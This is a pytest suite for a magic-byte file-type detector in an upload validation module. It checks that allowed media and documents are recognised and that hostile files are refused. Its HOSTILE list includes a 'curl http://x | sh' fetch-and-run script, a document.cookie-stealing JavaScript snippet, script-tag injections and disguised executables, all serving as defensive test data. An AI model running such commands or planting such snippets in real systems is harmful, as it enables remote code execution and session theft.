"""File types from magic bytes: every allowed type is recognised, every hostile file is refused.

Samples are built here, byte by byte or with the standard library, so the tests need no fixtures
and say exactly what each file starts with. Names appear only in the test ids: `detect` never sees
a filename, which is the point of the "EXE renamed .pdf" cases.
"""

from __future__ import annotations

import gzip
import io
import os
import struct
import tarfile
import wave
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from integrity.cases.filetypes import (
    ALLOWED,
    DOCX,
    HEIC,
    HEIF,
    JPEG,
    M4A,
    MOV,
    MP3,
    MP4,
    NOT_ALLOWED,
    ODT,
    OGG,
    PDF,
    PNG,
    SNIFF_BYTES,
    TEXT,
    WAV,
    WEBM,
    WEBP,
    XLSX,
    DetectedType,
    detect,
)
from integrity.errors import UnsupportedType

# --- samples of the allowed types ---------------------------------------------------------------


def jpeg() -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xd9"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def apng() -> bytes:
    base = png()
    actl = _png_chunk(b"acTL", struct.pack(">II", 1, 0))
    return base[:33] + actl + base[33:]  # acTL right after IHDR


def webp() -> bytes:
    # Lossless 1x1: VP8L signature byte, 14-bit width-1 and height-1, alpha and version bits.
    vp8l = b"\x2f" + bytes(4) + b"\x00"
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def iso_bmff(major: bytes, *compatible: bytes, then: bytes = b"") -> bytes:
    body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
    ftyp = struct.pack(">I", 8 + len(body)) + b"ftyp" + body
    free = struct.pack(">I", 8 + len(then)) + b"free" + then
    return ftyp + free + struct.pack(">I", 8) + b"mdat"


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
        b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def mp3_with_id3() -> bytes:
    tag = b"ID3\x04\x00\x00" + bytes(4)  # v2.4, no flags, empty tag
    frame = b"\xff\xfb\x90\x64" + bytes(413)  # MPEG-1 layer III, 128 kbit/s, 44.1 kHz
    return tag + frame * 3


def mp3_bare() -> bytes:
    return (b"\xff\xfb\x90\x64" + bytes(413)) * 3


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7 if crc & 0x80000000 else crc << 1) & 0xFFFFFFFF
    return crc


def ogg(first_packet: bytes) -> bytes:
    header = b"OggS\x00\x02" + bytes(8) + struct.pack("<III", 1, 0, 0) + bytes([1, len(first_packet)])
    page = header + first_packet
    crc = _ogg_crc(page)
    return page[:22] + struct.pack("<I", crc) + page[26:]


VORBIS_ID = b"\x01vorbis" + struct.pack("<IBIiii", 0, 2, 44100, 0, 128000, 0) + b"\xb8\x01"
OPUS_HEAD = b"OpusHead\x01\x02\x38\x01\x80\xbb\x00\x00\x00\x00\x00"
THEORA_ID = b"\x80theora\x03\x02\x01" + bytes(33)


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(bytes(1600))
    return out.getvalue()


def _ebml(element_id: bytes, payload: bytes) -> bytes:
    return element_id + bytes([0x80 | len(payload)]) + payload


def webm() -> bytes:
    header = (
        _ebml(b"\x42\x86", b"\x01")  # EBMLVersion
        + _ebml(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + _ebml(b"\x42\xf2", b"\x04")  # EBMLMaxIDLength
        + _ebml(b"\x42\xf3", b"\x08")  # EBMLMaxSizeLength
        + _ebml(b"\x42\x82", b"webm")  # DocType
        + _ebml(b"\x42\x87", b"\x04")  # DocTypeVersion
        + _ebml(b"\x42\x85", b"\x02")  # DocTypeReadVersion
    )
    return _ebml(b"\x1a\x45\xdf\xa3", header) + b"\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x00"


def zipped(entries: list[tuple[str, bytes | str, int]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data, method in entries:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


D, S = zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Target="word/document.xml"/></Relationships>'
)


def content_types(main: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
        '2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="application/vnd.{main}"/></Types>'
    )


WORD_MAIN = "openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def docx() -> bytes:
    return zipped(
        [
            ("[Content_Types].xml", content_types(WORD_MAIN), D),
            ("_rels/.rels", RELS, D),
            ("word/document.xml", "<w:document/>", D),
        ]
    )


def docx_libreoffice_order() -> bytes:
    # LibreOffice writes [Content_Types].xml last; with a large part in between it lies beyond the
    # sniffed bytes, so the decision comes from the folders.
    return zipped(
        [
            ("_rels/.rels", RELS, D),
            ("docProps/core.xml", "<cp:coreProperties/>", D),
            ("word/document.xml", "<w:document/>", D),
            ("word/media/image1.jpg", os.urandom(SNIFF_BYTES), S),
            ("[Content_Types].xml", content_types(WORD_MAIN), D),
        ]
    )


def xlsx() -> bytes:
    return zipped(
        [
            ("[Content_Types].xml", content_types(EXCEL_MAIN), D),
            ("_rels/.rels", RELS, D),
            ("xl/workbook.xml", "<workbook/>", D),
            ("xl/worksheets/sheet1.xml", "<worksheet/>", D),
        ]
    )


def odt(mimetype: bytes = b"application/vnd.oasis.opendocument.text", method: int = S) -> bytes:
    return zipped(
        [
            ("mimetype", mimetype, method),
            ("content.xml", "<office:document-content/>", D),
            ("META-INF/manifest.xml", "<manifest:manifest/>", D),
        ]
    )


ALLOWED_SAMPLES: list[tuple[str, bytes, DetectedType]] = [
    ("jpeg", jpeg(), JPEG),
    ("png", png(), PNG),
    ("apng", apng(), PNG),
    ("webp", webp(), WEBP),
    ("heic-iphone", iso_bmff(b"heic", b"mif1", b"heic"), HEIC),
    ("heic-mif1", iso_bmff(b"mif1", b"mif1", b"heic"), HEIC),
    ("heif", iso_bmff(b"mif1", b"mif1", b"heix"), HEIF),
    ("pdf", pdf(), PDF),
    ("text-utf8", "Zapisnik: policija je ušla u stan.\nЗаписник.\r\n\ttab\f".encode(), TEXT),
    ("text-utf8-bom", "\ufeffIzjava svedoka".encode(), TEXT),
    ("text-utf16le-bom", "\ufeffИзјава сведока\r\n".encode("utf-16-le"), TEXT),
    ("text-utf16be-bom", "\ufeffIzjava".encode("utf-16-be"), TEXT),
    ("text-csv", b"date,place,amount\n2026-01-02,Novi Sad,1000\n", TEXT),
    ("text-starting-like-bmp", b"BM report on the mayor's car\n", TEXT),
    ("text-starting-like-id3", b"ID3 notes from the meeting\n", TEXT),
    ("text-starting-like-m4a", b"M4A recording to follow\n", TEXT),
    ("text-starting-like-mz", b"MZ Sport d.o.o. invoice summary\n", TEXT),
    ("text-a-less-than-later", b"price < 100 and > 50\n", TEXT),
    ("mp3-id3", mp3_with_id3(), MP3),
    ("mp3-frames", mp3_bare(), MP3),
    ("m4a", iso_bmff(b"M4A ", b"M4A ", b"mp42", b"isom"), M4A),
    ("ogg-vorbis", ogg(VORBIS_ID), OGG),
    ("ogg-opus", ogg(OPUS_HEAD), OGG),
    ("wav", wav(), WAV),
    ("mp4-isom", iso_bmff(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), MP4),
    ("mp4-mp42", iso_bmff(b"mp42", b"mp42", b"isom"), MP4),
    ("mov", iso_bmff(b"qt  ", b"qt  "), MOV),
    ("webm", webm(), WEBM),
    ("docx", docx(), DOCX),
    ("docx-libreoffice-order", docx_libreoffice_order(), DOCX),
    ("xlsx", xlsx(), XLSX),
    ("odt", odt(), ODT),
]


@pytest.mark.parametrize(
    ("data", "expected"), [(d, e) for _, d, e in ALLOWED_SAMPLES], ids=[n for n, _, _ in ALLOWED_SAMPLES]
)
def test_allowed_types_are_recognised(data: bytes, expected: DetectedType) -> None:
    assert detect(data[:SNIFF_BYTES]) == expected


def test_every_allowed_type_has_a_sample() -> None:
    assert {e for _, _, e in ALLOWED_SAMPLES} == set(ALLOWED)


def test_detected_types_are_consistent() -> None:
    for found in ALLOWED:
        assert found.kind in {"image", "pdf", "text", "audio", "video", "document"}
        assert found.extension.isalnum() and found.extension.islower()
        assert "/" in found.mime


def test_a_longer_head_than_needed_is_fine() -> None:
    assert detect(pdf() + bytes(2 * SNIFF_BYTES)) == PDF


def test_a_text_head_may_end_inside_a_character() -> None:
    # The caller cuts at SNIFF_BYTES, which can fall inside a multi-byte character.
    text = ("x" * (SNIFF_BYTES - 1) + "č" * 10).encode()
    assert detect(text[:SNIFF_BYTES]) == TEXT


def test_a_whole_file_may_not_end_inside_a_character() -> None:
    with pytest.raises(UnsupportedType):
        detect("kraj č".encode()[:-1])


def test_a_polyglot_is_what_its_first_bytes_say() -> None:
    # A JPEG header followed by a web page is stored and served as a JPEG, which no browser runs.
    assert detect(jpeg()[:20] + b"<html><script>alert(1)</script></html>") == JPEG


# --- hostile files ------------------------------------------------------------------------------


def elf() -> bytes:
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)


def pe() -> bytes:
    dos = bytearray(128)
    dos[0:2] = b"MZ"
    dos[60:64] = struct.pack("<I", 64)
    dos[64:68] = b"PE\x00\x00"
    return bytes(dos)


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        info = tarfile.TarInfo("evidence.txt")
        info.size = 5
        tf.addfile(info, io.BytesIO(b"hello"))
    return out.getvalue()


def gif() -> bytes:
    screen = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\xff\xff\xff\x00\x00\x00"
    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
    return screen + image + b";"


def bmp() -> bytes:
    pixels = b"\x00\x00\xff\x00"
    header = b"BM" + struct.pack("<IHHI", 14 + 40 + len(pixels), 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return header + info + pixels


HOSTILE: list[tuple[str, bytes]] = [
    # Programs, whatever they are called.
    ("setup.exe renamed invoice.pdf", pe()),
    ("elf binary renamed photo.jpg", elf()),
    ("tiny elf header", b"\x7fELF\x02\x01\x01\x00"),
    ("mach-o renamed notes.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)),
    ("mach-o universal", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(24)),
    ("wasm", b"\x00asm\x01\x00\x00\x00"),
    ("shell script renamed report.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
    ("python script with env shebang", b"#!/usr/bin/env python3\nprint('x')\n"),
    ("shebang after a BOM", b"\xef\xbb\xbf#!/bin/sh\nid\n"),
    # Web pages and markup, however they start.
    ("html renamed photo.jpg", b"<html><body><script>alert(1)</script></body></html>"),
    ("doctype", b"<!DOCTYPE html><title>x</title>"),
    ("doctype after a BOM", b"\xef\xbb\xbf<!DOCTYPE html><title>x</title>"),
    ("doctype after whitespace", b" \r\n\t\n   <!doctype html><p>x"),
    ("doctype in utf-16", "\ufeff<!DOCTYPE html><p>x".encode("utf-16-le")),
    ("script tag later in a text", b"Dear reviewer,\nsee below\n<script>fetch('/api')</script>\n"),
    ("svg with script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("svg after xml declaration", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("xml", b'<?xml version="1.0"?><root/>'),
    ("html comment first", b"<!-- x --><html></html>"),
    # JavaScript.
    ("javascript function", b"function steal() { return document.cookie; }\n"),
    ("javascript iife", b"(function () { location = 'https://x'; })();\n"),
    ("javascript const", b"const a = require('fs');\n"),
    ("javascript use strict", b"'use strict';\nmodule.exports = {};\n"),
    ("javascript module", b"import x from './x.js';\nx();\n"),
    ("javascript comment", b"// minified\nvar a=1;\n"),
    ("javascript arrow", b"(() => { fetch('/') })()\n"),
    # Other text formats that carry active content.
    ("postscript", b"%!PS-Adobe-3.0\n/x { } def\n"),
    ("rtf renamed doc.docx", b"{\\rtf1\\ansi{\\object\\objemb x}}"),
    # Archives, including a zip dressed as an office file.
    ("zip renamed report.docx", zipped([("report.txt", "hello", D)])),
    ("zip with a word folder only", zipped([("word/evil.exe", pe(), D)])),
    (
        "zip with docProps then word, no package parts",
        zipped([("docProps/a.xml", "x", D), ("word/x.xml", "x", D)]),
    ),
    (
        "macro-enabled word (.docm)",
        zipped(
            [
                ("[Content_Types].xml", content_types("ms-word.document.macroEnabled.main+xml"), D),
                ("_rels/.rels", RELS, D),
                ("word/document.xml", "<w:document/>", D),
            ]
        ),
    ),
    (
        "docx carrying a vbaProject",
        zipped([("_rels/.rels", RELS, D), ("word/document.xml", "x", D), ("word/vbaProject.bin", "x", D)]),
    ),
    (
        "powerpoint (pptx)",
        zipped(
            [
                (
                    "[Content_Types].xml",
                    content_types("openxmlformats-officedocument.presentationml.presentation.main+xml"),
                    D,
                ),
                ("_rels/.rels", RELS, D),
                ("ppt/presentation.xml", "x", D),
            ]
        ),
    ),
    (
        "word template (dotx)",
        zipped(
            [
                (
                    "[Content_Types].xml",
                    content_types("openxmlformats-officedocument.wordprocessingml.template.main+xml"),
                    D,
                ),
                ("_rels/.rels", RELS, D),
                ("word/document.xml", "x", D),
            ]
        ),
    ),
    ("opendocument spreadsheet (ods)", odt(b"application/vnd.oasis.opendocument.spreadsheet")),
    ("odt with a compressed mimetype", odt(method=D)),
    (
        "odt with basic macros",
        zipped(
            [
                ("mimetype", b"application/vnd.oasis.opendocument.text", S),
                ("Basic/Standard/Module1.xml", "x", D),
            ]
        ),
    ),
    ("empty zip", b"PK\x05\x06" + bytes(18)),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(32)),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32)),
    ("gz renamed photo.jpg", gzip.compress(b"hello world")),
    ("tar", tar()),
    # Media and images that are not on the list.
    ("gif", gif()),
    ("bmp", bmp()),
    ("avif", iso_bmff(b"avif", b"avif", b"mif1", b"miaf")),
    ("3gp", iso_bmff(b"3gp4", b"3gp4", b"3gp5")),
    ("ogg theora video", ogg(THEORA_ID)),
    ("flac", b"fLaC\x00\x00\x00\x22" + bytes(34)),
    ("matroska", _ebml(b"\x1a\x45\xdf\xa3", _ebml(b"\x42\x82", b"matroska"))),
    ("truncated ftyp", b"\x00\x00\x00\x18ftypisom"),
    ("text with a NUL", b"looks like text\x00but is not"),
    ("text with control bytes", b"abc\x01\x02\x03def"),
    ("invalid utf-8", b"caf\xe9 au lait"),
    ("random bytes", bytes(range(256)) * 4),
]


@pytest.mark.parametrize("data", [d for _, d in HOSTILE], ids=[n for n, _ in HOSTILE])
def test_hostile_files_are_refused(data: bytes) -> None:
    with pytest.raises(UnsupportedType) as raised:
        detect(data[:SNIFF_BYTES])
    assert raised.value.status_code == 415
    # One message, naming what is accepted: nothing about the file itself.
    assert raised.value.detail == NOT_ALLOWED


def test_an_empty_file_is_refused_as_empty() -> None:
    with pytest.raises(UnsupportedType) as raised:
        detect(b"")
    assert raised.value.detail == "the file is empty"


def test_the_name_plays_no_part() -> None:
    # "invoice.pdf.exe", "photo.jpg.html", ...: detect only ever sees bytes, so a double extension
    # changes nothing; the display name takes the detected extension (tested in test_filenames).
    assert detect.__code__.co_argcount == 1


@settings(max_examples=400, deadline=None)
@given(
    data=st.binary(min_size=1, max_size=2048)
    | st.builds(lambda tail: b"PK\x03\x04" + tail, st.binary(max_size=2048))
    | st.builds(lambda tail: b"\x00\x00\x00\x18ftyp" + tail, st.binary(max_size=256))
    | st.text(max_size=512).map(lambda t: t.encode() or b" ")
)
def test_detect_answers_every_input_with_an_allowed_type_or_a_refusal(data: bytes) -> None:
    try:
        found = detect(data)
    except UnsupportedType:
        return
    assert found in ALLOWED


@pytest.mark.parametrize("chunk", [1, 7, 4096, 1 << 20])
def test_the_inflation_check_counts_what_entries_really_inflate_to_in_any_chunking(chunk: int) -> None:
    from integrity.cases.filetypes import InflationCheck
    from tests.fuzz.test_hostile_uploads import bomb_part, office

    document = b"<w:document>" + b"<w:p>tekst</w:p>" * 200 + b"</w:document>"
    for streamed in (False, True):
        data = office("docx", {"word/document.xml": document}, streamed=streamed)
        check = InflationCheck()
        for start in range(0, len(data), chunk):
            check.feed(data[start : start + chunk])
        # Every entry inflated: the content types, the relations and the document.
        assert check.inflated > len(document)
    hidden = office("docx", {"word/document.xml": bomb_part(80 * 1024 * 1024)}, streamed=True)
    check = InflationCheck()
    step = max(chunk, 4096)  # byte by byte, 80 MiB of inflating would only be slow
    with pytest.raises(UnsupportedType):
        for start in range(0, len(hidden), step):
            check.feed(hidden[start : start + step])
